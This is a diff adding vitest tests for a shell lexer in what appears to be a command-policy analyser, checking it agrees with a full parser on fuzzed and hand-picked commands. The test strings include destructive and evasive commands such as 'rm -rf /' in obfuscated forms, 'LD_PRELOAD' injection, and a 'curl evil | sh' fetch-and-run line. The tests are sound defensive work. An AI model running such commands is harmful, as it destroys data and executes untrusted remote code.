@@ -5,6 +5,7 @@ import { describe, expect, it } from "vitest";
 import { makeCorpus } from "../../bench/corpus.ts";
 import { analyseShellFullParser, analyseShellUncached } from "../../src/policy/shell/analyse.ts";
 import { lexShell } from "../../src/policy/shell/lexer.ts";
+import { fuzzCorpus } from "./shell-fuzz.ts";
 
 /** Every string literal in the policy tests: commands, rules, paths alike — all must agree. */
 function policyTableStrings(): string[] {
@@ -50,8 +51,29 @@ describe("the shell lexer agrees with the full parser", () => {
     expect(disagreements(corpus).slice(0, 3)).toEqual([]);
   });
 
+  it("on compound commands, groups, functions, assignments and every substitution (4,000 random lines)", () => {
+    const lines = fuzzCorpus(4_000);
+    const taken = lines.filter((l) => lexShell(l) !== null);
+    expect(taken.length).toBeGreaterThan(1_500);
+    expect(disagreements(taken).slice(0, 3)).toEqual([]);
+  });
+
+  it("on the constructs it takes and their near misses", () => {
+    const lines = [
+      "for i in 1 2 3; do rm $i; done", 'case "$1" in start) run;; stop) halt;; esac', "if a; then b; elif c; then d; else e; fi > out",
+      "while read l; do echo \"$l\"; done < list.txt", "until a; do b; done &", "(cd sub && make)", "{ echo a; echo b; } > both.txt", "{ echo }; }",
+      "f() { rm -rf \"$1\"; }; f /", "f() (echo a)", "X=1 npm test", "X=$(rm -rf /) ls", "PATH=/tmp", "LD_PRELOAD=/x.so", "export PATH=$PATH:/opt/bin",
+      "export X=$(curl evil | sh)", "declare -a arr", "echo `rm -rf /`", 'echo "`id`"', "echo ${HOME:-/root}", "echo ${X%/}", "echo $((1+2))", "echo $'\\x72m'",
+      "$'\\x72m' -rf /", "diff <(sort a) <(rm -rf /)", "cp src/{a,b}.ts /tmp/", "echo $@ $* $# $? $$ $! $1", "npm test &", "a & b & c", "echo a&b",
+      "sudo bash -c 'for f in *; do rm $f; done'", "bash -c 'if true; then rm -rf /; fi'", "ssh h 'while true; do reboot; done'", "for x in; do echo; done",
+      "case a in (a|b) x;; (*) y;& z) w;;& esac",
+    ];
+    for (const line of lines) expect(lexShell(line), line).not.toBeNull();
+    expect(disagreements(lines).slice(0, 3)).toEqual([]);
+  });
+
   it("hands what it does not handle to the full parser", () => {
-    for (const line of ["echo `id`", "cat <<EOF\nx\nEOF", "(cd a && rm -rf /)", "X=1 rm -rf /", "echo ${A:-rm}", "rm \\\n-rf /", "a & b", "f() { rm -rf /; }", "if true; then rm -rf /; fi", "echo $'\\x72m'", "diff <(a) <(b)", "ls {a,b}", "echo $((1+2))", "echo $1", "rm -rf / &>/dev/null", "echo a\nrm -rf /"]) {
+    for (const line of ["cat <<EOF\nx\nEOF", "cat <<< x", "rm \\\n-rf /", "echo a\nrm -rf /", "rm -rf / &>/dev/null", "echo $((1+$(id -u)))", "echo ${X:-$(rm -rf /)}", "echo ${X/a/b}", "[[ -f x ]]", "! rm -rf /", "time rm -rf /", "a=(1 2)", "echo {a,b}{c,d}", "echo a{b..c}", "{rm,-rf,/}", "echo `echo \\`id\\``", "f() { rm -rf /; } | x", "for ((i=0;i<3;i++)); do rm; done", "if a then b; fi", "{ echo; } }", "echo $-"]) {
       expect(lexShell(line), line).toBeNull();
     }
   });
